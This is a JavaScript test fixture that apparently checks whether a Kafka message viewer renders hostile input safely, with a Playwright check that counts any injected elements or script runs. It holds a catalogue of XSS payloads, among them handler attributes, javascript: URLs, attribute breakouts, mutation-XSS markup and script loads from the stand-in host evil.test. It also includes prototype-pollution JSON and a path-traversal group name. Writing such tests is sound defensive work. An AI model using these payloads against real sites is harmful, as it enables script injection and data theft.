/// <reference lib="dom" />
'use strict';
// Messages that would be more than text, if somebody let them. Each element that could come of one has the attribute `data-hostile`, each script sets
// the global `hostile`, and what they would load is at `evil.test`.

const RUN = 'globalThis.hostile=(globalThis.hostile||0)+1';
const EVIL = 'http://evil.test';

/** By what it tries. @type {Record<string, string>} */
const TEXTS = {
  script: `<script data-hostile>${RUN}</script>`,
  'a script from elsewhere': `<script data-hostile src="${EVIL}/x.js"></script>`,
  'a picture with a handler': `<img data-hostile src=x onerror="${RUN}">`,
  'svg with a handler': `<svg data-hostile onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  'a way out of an attribute': `" autofocus onfocus="${RUN}" data-hostile="`,
  'a way out of a text area': `</textarea></template></title></style></script><img data-hostile src=x onerror="${RUN}">`,
  'a frame': `<iframe data-hostile srcdoc="<script>parent.hostile=1</script>"></iframe><object data-hostile data="${EVIL}"></object><embed data-hostile src="${EVIL}">`,
  'a link': `<a data-hostile href="javascript:${RUN}">click</a>`,
  'an address that is a script': `javascript:${RUN}//`,
  'an address that is a page': `data:text/html,<script>${RUN}</script>`,
  'a form': `<form data-hostile action="${EVIL}"><button formaction="javascript:${RUN}">send</button></form>`,
  'a style': `<style data-hostile>body{display:none;background:url(${EVIL}/css)}</style><link data-hostile rel=stylesheet href="${EVIL}/x.css">`,
  'a base and a refresh': `<base data-hostile href="${EVIL}"><meta data-hostile http-equiv=refresh content="0;url=${EVIL}">`,
  'an expression of a template': '$' + '{globalThis.hostile=1} {{constructor.constructor("globalThis.hostile=1")()}} <%= 1 %> {dangerouslySetInnerHTML}',
  'the end of a comment and of cdata': `--><![CDATA[><img data-hostile src=x onerror=${RUN}>]]>`,
  'a mangled tag': `<<img data-hostile src=x onerror=${RUN}//<</p><p data-hostile>`,
  entities: `&lt;img data-hostile src=x onerror=${RUN}&gt;&#60;script data-hostile&#62;`,
  'mutating markup': `<math><mtext><table><mglyph><style><!--</style><img data-hostile title="--&gt;&lt;img data-hostile src=x onerror=${RUN}&gt;">`,
  'control characters': 'a\u0000b\u0001c\u0007d\u0008e\u001b[31mred\u001b[0m\u007f\u0085\u009bf',
  'text of the other direction': 'user\u202egnp.exe\u202c \u2066\u2067x\u2069 \u200f\u200e\u061c end',
  'what is not seen': 'zero\u200bwidth\ufeff\u00ad\u2060joined',
  'many marks': `z${'\u0300\u0301\u0334\u0353'.repeat(200)}`,
  'lines and line ends': 'one\r\ntwo\rthree\u2028four\u2029five\n\n\n\n\nsix',
  'the prototype': '{"__proto__":{"hostile":1},"constructor":{"prototype":{"hostile":1}},"toString":"<img data-hostile src=x onerror=1>","hasOwnProperty":1}',
  'an element of a library':
    '{"type":"img","props":{"data-hostile":"","src":"x","onerror":"globalThis.hostile=1","dangerouslySetInnerHTML":{"__html":"<img data-hostile>"}},"key":null,"ref":null,"__k":null,"constructor":null,"nodeType":1,"$$typeof":"Symbol(react.element)"}',
  'numbers that are none': '{"a":1e999,"b":-0,"c":123456789012345678901234567890,"d":0.1}',
  'a name that is there twice': '{"a":1,"a":"<b data-hostile>2</b>"}',
  'a style of the console': `%c red %s %o","color:red`,
  empty: '',
};
/** @type {Record<string, Buffer>} */
const BYTES = {
  'no utf-8': Buffer.from([0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0xf8, 0x88, 0x80, 0x80, 0x80, 0x3c, 0x69, 0x6d, 0x67, 0x3e]),
  'utf-7 and utf-16': Buffer.concat([Buffer.from('+ADw-script+AD4-'), Buffer.from('<script data-hostile>', 'utf16le')]),
  'half a character': Buffer.from('grüße').subarray(0, 3),
  zeros: Buffer.alloc(64),
  'a picture': Buffer.from('GIF89a/*<img data-hostile src=x onerror=1>*/=1;\xff', 'latin1'),
};
const LONG = 300_000;
/** Texts that are deep, long, or large. @type {Record<string, () => string>} */
const LARGE = {
  'a long line': () => `<img data-hostile>${'x'.repeat(LONG)}`,
  'many lines': () => '\n'.repeat(20_000) + '<img data-hostile>',
  'deep json': () => `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
  'wide json': () => JSON.stringify(Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`<b data-hostile>${i}</b>`, i]))),
};

/** All of it: as the value, as the key, as a header's name and value. */
function hostileMessages() {
  const texts = Object.entries(TEXTS);
  return [
    ...texts.map(([name, text]) => ({ key: name, value: text, headers: { what: name } })),
    ...texts.map(([name, text]) => ({ key: text, value: name, headers: { [text || 'empty']: text, __proto: text, constructor: [text, Buffer.from([255])] } })),
    ...Object.entries(BYTES).map(([name, bytes]) => ({ key: bytes, value: bytes, headers: { what: name, bytes } })),
    ...Object.entries(LARGE).map(([name, make]) => ({ key: name, value: make(), headers: { what: name } })),
    { key: '__proto__', value: '{"__proto__":null}', headers: JSON.parse('{"__proto__":"polluted"}') },
    { key: null, value: null },
  ];
}

/** Names of groups and clients, which Kafka takes as they are. */
const HOSTILE_NAMES = [
  TEXTS.script,
  TEXTS['a picture with a handler'],
  TEXTS['a way out of an attribute'],
  TEXTS['text of the other direction'],
  '../../../etc?x=1#y',
  '__proto__',
  'a/b%2Fc %',
];

/** Effects of it, in the page: elements, runs of scripts, a changed prototype. @param {import('playwright-core').Page} page */
const harm = (page) =>
  page.evaluate(() => ({
    elements: document.querySelectorAll('[data-hostile], iframe, object, embed, base, meta[http-equiv="refresh"], a[href^="javascript:" i], a[href^="data:" i]')
      .length,
    ran: /** @type {any} */ (globalThis).hostile,
    prototype: /** @type {any} */ ({}).hostile,
  }));
/** The value of that when nothing came of it. */
const NO_HARM = { elements: 0, ran: undefined, prototype: undefined };

module.exports = { BYTES, harm, HOSTILE_NAMES, hostileMessages, LARGE, NO_HARM, TEXTS };
